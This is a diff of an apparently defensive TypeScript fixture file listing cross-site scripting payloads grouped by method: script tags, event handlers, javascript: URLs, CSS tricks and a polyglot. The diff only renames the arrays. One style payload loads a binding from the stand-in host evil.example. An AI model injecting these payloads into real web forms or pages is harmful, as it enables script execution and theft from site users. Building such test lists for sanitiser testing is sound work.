@@ -2,7 +2,7 @@
  * Script injections as entered into forms, grouped by how they try to execute.
  */
 
-const IN_TEXT = [
+const TEXT_INJECTIONS = [
   '<script>alert(1)</script>',
   '<SCRIPT>alert(1)</SCRIPT>',
   '<ScRiPt >alert(1)</sCrIpT >',
@@ -25,7 +25,7 @@ const IN_TEXT = [
   '＜script＞alert(1)＜/script＞',
 ]
 
-const BY_EVENT = [
+const EVENT_HANDLER_INJECTIONS = [
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)"//',
   '<img/src/onerror=alert(1)>',
@@ -60,7 +60,7 @@ const BY_EVENT = [
   '<style onload=alert(1)></style>',
 ]
 
-const BY_URL = [
+const URL_INJECTIONS = [
   '<a href="javascript:alert(1)">链接</a>',
   '<a href=" javascript:alert(1)">链接</a>',
   '<a href="JaVaScRiPt:alert(1)">链接</a>',
@@ -97,7 +97,7 @@ const BY_URL = [
   '<table background="javascript:alert(1)"><tr><td>格</td></tr></table>',
 ]
 
-const BY_STYLE = [
+const STYLE_INJECTIONS = [
   '<div style="background:url(javascript:alert(1))">x</div>',
   '<div style="width:expression(alert(1))">x</div>',
   '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
@@ -141,4 +141,10 @@ const OTHER_CONTEXTS = [
   `'"><img src=x onerror=alert(1)>{{7*7}}\${7*7}<!--`,
 ]
 
-export const SCRIPT_INJECTIONS: readonly string[] = [...IN_TEXT, ...BY_EVENT, ...BY_URL, ...BY_STYLE, ...OTHER_CONTEXTS]
+export const SCRIPT_INJECTIONS: readonly string[] = [
+  ...TEXT_INJECTIONS,
+  ...EVENT_HANDLER_INJECTIONS,
+  ...URL_INJECTIONS,
+  ...STYLE_INJECTIONS,
+  ...OTHER_CONTEXTS,
+]
